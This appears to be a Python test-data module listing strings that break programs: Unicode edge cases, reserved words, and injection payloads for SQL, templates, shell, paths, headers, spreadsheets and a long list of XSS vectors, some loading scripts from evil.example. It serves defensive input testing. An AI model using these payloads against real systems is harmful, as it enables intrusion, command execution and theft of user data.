"""Texts that break programs, one of a kind each: what people really type, and what they type to break something (B2, B4)."""

TEXTS = (  # stored and shown as they are, in NFC
    # scripts and composition
    "Ame\u0301lie", "Å\u030a", "e\u0301\u0302\u0303\u0304", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳", "가각", "\u1100\u1161\u11a8", "Ω\u2126", "ﬁ ﬀ ﬆ", "ẛ̣",
    "Дарья Ёжикова", "Ї Ґ Є і", "Ђорђе", "Νίκος Σίσυφος", "ΣΑΣ σας", "Straße ẞ", "İstanbul ıi", "ǅ ǆ", "Łódź", "Ñandú", "O’Brien", "D'Arcy",
    "Jean-Luc", "Anne\u00a0Marie", "李小龍", "田中さんにあげて下さい", "パーティーへ", "和製漢語", "사회과학원", "ด้้้้้็็็็็้้้้้", "नमस्ते", "தமிழ்", "ខ្មែរ", "မြန်မာ", "ქართული", "Հայերեն",
    "ⴰⵎⴰⵣⵉⵖ", "ᏣᎳᎩ", "𝒜𝓁𝒾𝒸𝑒", "𐐜 𐐔𐐇𐐝", "𓂀𓃰", "𠜎𠜱𠝹", "ⅷ ⑤ ½ ²", "１２３", "١٢٣", "৪২",
    # direction and what is not seen
    "שלום Alice", "مرحبا 123", "الكل في المجمو عة", "\u202eevil\u202c", "\u2066isolate\u2069", "a\u200bb", "a\u200db", "a\u200cb", "a\u2060b", "\ufeffbom",
    "soft\u00adhyphen", "a\u034fb", "\u115f filler", "\u3164x", "a\u180eb", "a\u2028b", "a\u2029b", "a\u0085b", "x\ufffdx", "\ufff9x\ufffb", "\uffff!", "\U0010ffff!",
    "\ue000 private", "tag\U000e0041", "var\ufe0f",
    # pictures
    "😀", "👩‍👩‍👧‍👦", "👍🏽", "🏳️‍🌈", "🇷🇺🇳🇱", "1️⃣", "🧑🏿‍🚀", "❤️‍🔥", "☃︎ ☃️", "(╯°□°)╯︵ ┻━┻", "¯\\_(ツ)_/¯", "ヽ༼ຈل͜ຈ༽ﾉ",
    # words that programs read
    "null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "true", "false", "0", "-0", "1e309", "0x10", "1/0", "[]", "{}", "[object Object]", "N/A",
    "constructor", "__proto__", "hasOwnProperty", "toString", "__class__", "self", "CON", "nul.txt", "Scunthorpe", "Robert'); DROP TABLE users;--",
    # SQL, format, template, shell, path, header
    "' OR '1'='1", "1;SELECT pg_sleep(10)", '" OR ""="', "\\' OR 1=1 --", "%' AND 1=0 --", "%", "_", "%%", "\\", "\\\\", "\\n", "$$", "$1", ":name", "%(name)s", "%s%s%n", "%d",
    "{0}", "{name}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include '/etc/passwd' %}", "{{ config }}", "{{''.__class__}}", "{#", "#}", "${jndi:ldap://x/a}",
    "`id`", "$(id)", "; id", "| id", "&& id", "../../etc/passwd", "..\\..\\boot.ini", "/dev/null", "C:\\con\\con", "file:///etc/passwd", "a%00b", "%2e%2e%2f", "a%0d%0aX: y",
    # markup and tables
    "<b>bold</b>", "<script>alert(1)</script>", "&amp;", "&lt;&#39;", '"quoted"', "a<b>c", "<!-- x", "-->", "]]>", "<![CDATA[x]]>", "</title>", "</textarea>", "</script>",
    "=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", "＝1+1", "a,b", "a;b", '"a","b"', 'x"', "'", "''", "a|b", "# heading", "[x](javascript:alert(1))", "http://a.example/?b=c&d=e",
    "mailto:a@b.example?bcc=x", "a@b.example", "Alice <a@b.example>", "=?utf-8?B?eA==?=",
)  # fmt: skip
LONG = ("x" * 300_000, "a\u0301" * 5_000, " " * 100_000 + "x")  # cut or refused
NEVER = ("a\x00b", "\x00")  # PostgreSQL keeps no NUL: refused in words

XSS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="', "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", '<a href="jav&#x09;ascript:alert(1)">x</a>', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example/x)}</style>", "<p style=background:url(//evil.example/y)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "</style><script>alert(1)</script>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>", "<xss hx-get=/me hx-trigger=load>", "<div hx-on::load=alert(1) hx-trigger=load>x</div>", '" hx-get="/logout" hx-trigger="load" x="',
    "<div data-hx-post=/logout data-hx-trigger=load>", "' hx-vals='js:{x:alert(1)}' '", "<div hx-disable=false hx-headers='js:{a:alert(1)}'>", "<dialog open><button popovertarget=x autofocus>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`-alert(1)-`", "';alert(1)//", '";alert(1)//', '\\";alert(1)//', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "<<script>alert(1)//<</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<img/src=`x`onerror=alert(1)>", '<!--<img src="--><img src=x onerror=alert(1)//">',
)  # fmt: skip
